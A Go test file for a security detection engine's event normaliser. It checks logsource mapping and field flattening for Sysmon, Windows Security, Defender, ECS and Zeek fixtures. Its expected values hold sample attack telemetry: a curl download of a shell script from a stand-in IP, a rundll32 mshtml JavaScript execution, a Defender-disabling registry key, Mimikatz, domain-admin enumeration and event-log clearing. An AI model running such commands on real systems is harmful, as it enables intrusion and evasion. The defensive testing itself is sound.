package normalize_test

import (
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/socledger/socledger/detection"
	"github.com/socledger/socledger/detection/eventio"
	"github.com/socledger/socledger/detection/normalize"
)

// readObjects decodes every event of a file with eventio.
func readObjects(t testing.TB, path string) []map[string]any {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := eventio.NewReader(f, path)
	var out []map[string]any
	for {
		rec, err := r.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, rec.Object)
	}
}

// fixture normalises event i of a testdata file with the default mapping.
func fixture(t *testing.T, name string, i int) (detection.Event, detection.Logsource, normalize.Layout) {
	t.Helper()
	objs := readObjects(t, filepath.Join("testdata", name))
	if i >= len(objs) {
		t.Fatalf("%s has %d events, want event %d", name, len(objs), i)
	}
	return normalize.Default().Normalize(objs[i])
}

func TestLayouts(t *testing.T) {
	t.Parallel()
	tests := []struct {
		file       string
		index      int
		wantLayout normalize.Layout
		wantLS     detection.Logsource
		wantFields map[string]any
	}{
		{
			file: "sysmon_1.evtx.json", index: 0,
			wantLayout: normalize.LayoutEvtx,
			wantLS:     detection.Logsource{Product: "windows", Category: "process_creation", Service: "sysmon"},
			wantFields: map[string]any{
				"EventID":                json.Number("1"),
				"Channel":                "Microsoft-Windows-Sysmon/Operational",
				"Computer":               "ws01.corp.example",
				"Provider_Name":          "Microsoft-Windows-Sysmon",
				"Provider_Guid":          "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
				"TimeCreated_SystemTime": "2025-01-02T03:04:05.678901Z",
				"Execution_ProcessID":    json.Number("2880"),
				"Security_UserID":        "S-1-5-18",
				"Image":                  `C:\Windows\System32\whoami.exe`,
				"CommandLine":            "whoami /priv",
				"ParentImage":            `C:\Windows\System32\cmd.exe`,
				"ProcessId":              json.Number("6120"),
			},
		},
		{
			file: "sysmon_1.evtx.json", index: 1,
			wantLayout: normalize.LayoutEvtx,
			wantLS:     detection.Logsource{Product: "windows", Category: "registry_set", Service: "sysmon"},
			wantFields: map[string]any{"TargetObject": `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`},
		},
		{
			// The channel in lower case still maps; EID 12 DeleteKey is
			// registry_delete (and, through Matches, registry_event).
			file: "sysmon_1.evtx.json", index: 2,
			wantLayout: normalize.LayoutEvtx,
			wantLS:     detection.Logsource{Product: "windows", Category: "registry_delete", Service: "sysmon"},
		},
		{
			file: "security_4688.evtx.json", index: 1,
			wantLayout: normalize.LayoutEvtx,
			wantLS:     detection.Logsource{Product: "windows", Service: "security"},
			wantFields: map[string]any{"TargetUserName": "bob", "LogonType": json.Number("3")},
		},
		{
			file: "defender_1116.evtx.json", index: 1,
			wantLayout: normalize.LayoutEvtx,
			wantLS:     detection.Logsource{Product: "windows", Service: "wmi"},
			wantFields: map[string]any{
				"EventID":    json.Number("5858"),
				"Operation":  "Start IWbemServices::ExecMethod - Win32_NTEventlogFile::cleareventlog",
				"ResultCode": "0x80041003",
			},
		},
		{
			file: "defender_1116.evtx.json", index: 2,
			wantLayout: normalize.LayoutEvtx,
			wantLS:     detection.Logsource{Product: "windows"},
			wantFields: map[string]any{"Channel": "Some-Vendor/Operational"},
		},
		{
			file: "windows_flat.ndjson", index: 1,
			wantLayout: normalize.LayoutWindowsFlat,
			wantLS:     detection.Logsource{Product: "windows", Category: "network_connection", Service: "sysmon"},
			wantFields: map[string]any{
				"Provider_Name":   "Microsoft-Windows-Sysmon",
				"Computer":        "WORKSTATION5",
				"DestinationPort": json.Number("445"),
			},
		},
		{
			file: "windows_flat.ndjson", index: 2,
			wantLayout: normalize.LayoutWindowsFlat,
			wantLS:     detection.Logsource{Product: "windows", Category: "ps_script", Service: "powershell"},
		},
		{
			file: "ecs.ndjson", index: 0,
			wantLayout: normalize.LayoutECS,
			wantLS:     detection.Logsource{Product: "windows", Category: "process_creation", Service: "sysmon"},
			wantFields: map[string]any{
				"EventID":              "1",
				"Channel":              "Microsoft-Windows-Sysmon/Operational",
				"Computer":             "ws04.corp.example",
				"Provider_Name":        "Microsoft-Windows-Sysmon",
				"Image":                `C:\Windows\System32\rundll32.exe`,
				"CommandLine":          `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`,
				"process.command_line": `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`,
				"OriginalFileName":     "RUNDLL32.EXE",
				"ParentImage":          `C:\Windows\explorer.exe`,
				"ParentCommandLine":    `C:\Windows\Explorer.EXE`,
				"IntegrityLevel":       "Medium",
				"User":                 `CORP\carol`,
			},
		},
		{
			file: "ecs.ndjson", index: 1,
			wantLayout: normalize.LayoutECS,
			wantLS:     detection.Logsource{Product: "linux", Category: "process_creation"},
			wantFields: map[string]any{
				"Image":        "/usr/bin/curl",
				"CommandLine":  "curl -s http://198.51.100.7/x.sh",
				"ParentImage":  "/bin/bash",
				"process.args": []any{"curl", "-s", "http://198.51.100.7/x.sh"},
				"User":         "root",
			},
		},
		{
			file: "ecs.ndjson", index: 2,
			wantLayout: normalize.LayoutECS,
			wantLS:     detection.Logsource{Product: "windows", Category: "network_connection"},
			wantFields: map[string]any{
				"DestinationIp":                   "203.0.113.9",
				"DestinationPort":                 json.Number("443"),
				"threat.enrichments.indicator.ip": []any{"203.0.113.9", "203.0.113.10"},
			},
		},
		{
			file: "zeek.ndjson", index: 0,
			wantLayout: normalize.LayoutZeek,
			wantLS:     detection.Logsource{Product: "zeek", Category: "dns", Service: "dns"},
			wantFields: map[string]any{"query": "pool.minexmr.com", "id.orig_h": "10.0.0.5", "record_type": "A", "rejected": false},
		},
		{
			file: "zeek.ndjson", index: 1,
			wantLayout: normalize.LayoutZeek,
			wantLS:     detection.Logsource{Product: "zeek", Category: "firewall", Service: "conn"},
			wantFields: map[string]any{"_path": "conn", "dst_port": json.Number("3389")},
		},
		{
			file: "zeek.ndjson", index: 2,
			wantLayout: normalize.LayoutZeek,
			wantLS:     detection.Logsource{Product: "zeek", Category: "proxy", Service: "http"},
			wantFields: map[string]any{"method": "PUT", "uri": "/dav/x.exe", "_path": "http", "cs-method": "PUT"},
		},
		{
			file: "zeek.ndjson", index: 3,
			wantLayout: normalize.LayoutZeek,
			wantLS:     detection.Logsource{Product: "zeek", Service: "dce_rpc"},
			wantFields: map[string]any{"id.orig_h": "10.0.0.6", "operation": "CreateServiceW"},
		},
		{
			file: "zeek.ndjson", index: 4,
			wantLayout: normalize.LayoutZeek,
			wantLS:     detection.Logsource{Product: "zeek", Service: "x509"},
			wantFields: map[string]any{"certificate.serial": "8BB00EE"},
		},
		{
			file: "generic.ndjson", index: 0,
			wantLayout: normalize.LayoutGeneric,
			wantFields: map[string]any{"Image": `C:\Windows\System32\whoami.exe`},
		},
		{
			file: "generic.ndjson", index: 1,
			wantLayout: normalize.LayoutGeneric,
			wantFields: map[string]any{"app.name": "billing", "app.tags": []any{"a", "b"}, "count": json.Number("3"), "SourceName": "web 1", "Source Name": "web 1"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.file+"#"+string(rune('0'+tt.index)), func(t *testing.T) {
			t.Parallel()
			ev, ls, layout := fixture(t, tt.file, tt.index)
			if layout != tt.wantLayout {
				t.Errorf("layout = %v, want %v", layout, tt.wantLayout)
			}
			if ls != tt.wantLS {
				t.Errorf("logsource = %+v, want %+v", ls, tt.wantLS)
			}
			for k, want := range tt.wantFields {
				if got, ok := ev[k]; !ok || !reflect.DeepEqual(got, want) {
					t.Errorf("%s = %#v (present %v), want %#v", k, got, ok, want)
				}
			}
			checkFlat(t, ev)
		})
	}
}

// checkFlat fails unless every value has one of detection.Event's types.
func checkFlat(t *testing.T, ev detection.Event) {
	t.Helper()
	var ok func(v any, inList bool) bool
	ok = func(v any, inList bool) bool {
		switch x := v.(type) {
		case string, json.Number, bool, nil:
			return true
		case []any:
			if inList {
				return false
			}
			for _, e := range x {
				if !ok(e, true) {
					return false
				}
			}
			return true
		}
		return false
	}
	for k, v := range ev {
		if !ok(v, false) {
			t.Errorf("field %s holds %T, not a flat event value", k, v)
		}
	}
}

func TestDefenderNamesWithoutSpaces(t *testing.T) {
	t.Parallel()
	ev, ls, _ := fixture(t, "defender_1116.evtx.json", 0)
	want := map[string]any{
		"Threat Name": "HackTool:Win64/Mimikatz",
		"ThreatName":  "HackTool:Win64/Mimikatz",
		"SourceName":  "Real-Time Protection",
		"ProcessName": `C:\Users\bob\Downloads\m.exe`,
		// thor.yml's antivirus fieldmappings.
		"Signature": "HackTool:Win64/Mimikatz",
		"Filename":  `file:_C:\Users\bob\Downloads\m.exe`,
	}
	for k, w := range want {
		if ev[k] != w {
			t.Errorf("%s = %#v, want %#v", k, ev[k], w)
		}
	}
	if wantLS := (detection.Logsource{Product: "windows", Category: "antivirus", Service: "windefend"}); ls != wantLS {
		t.Errorf("logsource = %+v, want %+v", ls, wantLS)
	}
}

func TestSecurity4688(t *testing.T) {
	t.Parallel()
	m := normalize.Default()
	for _, src := range []struct {
		file  string
		index int
	}{{"security_4688.evtx.json", 0}, {"windows_flat.ndjson", 0}} {
		ev, ls, _ := fixture(t, src.file, src.index)
		if want := (detection.Logsource{Product: "windows", Category: "process_creation", Service: "security"}); ls != want {
			t.Errorf("%s: logsource = %+v, want %+v", src.file, ls, want)
		}
		if ev["EventID"] != json.Number("4688") {
			t.Errorf("%s: EventID = %#v", src.file, ev["EventID"])
		}
		if img, _ := ev["Image"].(string); !strings.HasSuffix(img, `\whoami.exe`) && !strings.HasSuffix(img, `\net.exe`) {
			t.Errorf("%s: Image = %#v, want NewProcessName's value", src.file, ev["Image"])
		}
		if ev["ParentImage"] != `C:\Windows\System32\cmd.exe` {
			t.Errorf("%s: ParentImage = %#v", src.file, ev["ParentImage"])
		}
		if ev["NewProcessName"] != ev["Image"] {
			t.Errorf("%s: NewProcessName must stay beside Image", src.file)
		}
		rule := detection.Logsource{Product: "windows", Category: "process_creation"}
		if !m.Matches(rule, ls) {
			t.Errorf("%s: a process_creation rule does not get the event", src.file)
		}
		if !m.Matches(detection.Logsource{Product: "windows", Service: "security"}, ls) {
			t.Errorf("%s: a security rule does not get the event", src.file)
		}
	}
	ev, _, _ := fixture(t, "security_4688.evtx.json", 0)
	if ev["CommandLine"] != `net group "Domain Admins" /domain` || ev["EventID_Qualifiers"] != "" {
		t.Errorf("Data items or #text EventID not flattened: %v", ev)
	}
}

func TestMatches(t *testing.T) {
	t.Parallel()
	m := normalize.Default()
	sysmon1 := detection.Logsource{Product: "windows", Category: "process_creation", Service: "sysmon"}
	sec4688 := detection.Logsource{Product: "windows", Category: "process_creation", Service: "security"}
	sec4624 := detection.Logsource{Product: "windows", Service: "security"}
	regSet := detection.Logsource{Product: "windows", Category: "registry_set", Service: "sysmon"}
	regEvent := detection.Logsource{Product: "windows", Category: "registry_event", Service: "sysmon"}
	zeekDNS := detection.Logsource{Product: "zeek", Category: "dns", Service: "dns"}
	unknownWin := detection.Logsource{Product: "windows"}
	tests := []struct {
		name string
		rule detection.Logsource
		ev   detection.Logsource
		want bool
	}{
		{"process_creation gets sysmon 1", detection.Logsource{Product: "windows", Category: "process_creation"}, sysmon1, true},
		{"process_creation gets 4688", detection.Logsource{Product: "windows", Category: "process_creation"}, sec4688, true},
		{"security gets 4688", detection.Logsource{Product: "windows", Service: "security"}, sec4688, true},
		{"security gets 4624", detection.Logsource{Product: "windows", Service: "security"}, sec4624, true},
		{"security does not get sysmon", detection.Logsource{Product: "windows", Service: "security"}, sysmon1, false},
		{"sysmon service gets sysmon 1", detection.Logsource{Product: "windows", Service: "sysmon"}, sysmon1, true},
		{"case is ignored", detection.Logsource{Product: "Windows", Category: "Process_Creation"}, sysmon1, true},
		{"linux rule, windows event", detection.Logsource{Product: "linux", Category: "process_creation"}, sysmon1, false},
		{"category alone", detection.Logsource{Category: "process_creation"}, sec4688, true},
		{"empty rule gets everything", detection.Logsource{}, sec4624, true},
		{"registry_event gets registry_set", detection.Logsource{Product: "windows", Category: "registry_event"}, regSet, true},
		{"registry_set does not get plain registry_event", detection.Logsource{Product: "windows", Category: "registry_set"}, regEvent, false},
		{"category rule, event without category", detection.Logsource{Product: "windows", Category: "process_creation"}, sec4624, false},
		{"service rule, unmapped channel", detection.Logsource{Product: "windows", Service: "security"}, unknownWin, false},
		{"product rule, unmapped channel", detection.Logsource{Product: "windows"}, unknownWin, true},
		{"unknown event goes everywhere", detection.Logsource{Product: "windows", Category: "process_creation"}, detection.Logsource{}, true},
		{"zeek dns service", detection.Logsource{Product: "zeek", Service: "dns"}, zeekDNS, true},
		{"generic dns category", detection.Logsource{Category: "dns"}, zeekDNS, true},
		{"zeek http rule, dns event", detection.Logsource{Product: "zeek", Service: "http"}, zeekDNS, false},
	}
	for _, tt := range tests {
		if got := m.Matches(tt.rule, tt.ev); got != tt.want {
			t.Errorf("%s: Matches(%+v, %+v) = %v, want %v", tt.name, tt.rule, tt.ev, got, tt.want)
		}
	}
	if got := m.Parents("Registry_Set"); !reflect.DeepEqual(got, []string{"registry_event"}) {
		t.Errorf("Parents(registry_set) = %v", got)
	}
}

func TestNormalizeConvertsPlainNumbers(t *testing.T) {
	t.Parallel()
	// An object decoded without UseNumber still yields json.Number.
	var obj map[string]any
	if err := json.Unmarshal([]byte(`{"EventID":4688,"Channel":"Security","x":{"y":[1.5,{"z":2}]}}`), &obj); err != nil {
		t.Fatal(err)
	}
	ev, ls, _ := normalize.Default().Normalize(obj)
	if ev["EventID"] != json.Number("4688") || ls.Category != "process_creation" {
		t.Errorf("EventID = %#v, logsource %+v", ev["EventID"], ls)
	}
	if !reflect.DeepEqual(ev["x.y"], []any{json.Number("1.5")}) || !reflect.DeepEqual(ev["x.y.z"], []any{json.Number("2")}) {
		t.Errorf("x.y = %#v, x.y.z = %#v", ev["x.y"], ev["x.y.z"])
	}
	checkFlat(t, ev)
}

func TestLayoutStrings(t *testing.T) {
	t.Parallel()
	want := map[normalize.Layout]string{
		normalize.LayoutGeneric: "generic", normalize.LayoutEvtx: "evtx", normalize.LayoutWindowsFlat: "windows-flat",
		normalize.LayoutECS: "ecs", normalize.LayoutAuditd: "auditd", normalize.LayoutZeek: "zeek",
		normalize.LayoutWazuh: "wazuh-windows",
	}
	for l, s := range want {
		if l.String() != s {
			t.Errorf("%d: String() = %q, want %q", l, l.String(), s)
		}
		if b, _ := l.MarshalText(); string(b) != s {
			t.Errorf("%d: MarshalText() = %q", l, b)
		}
	}
}
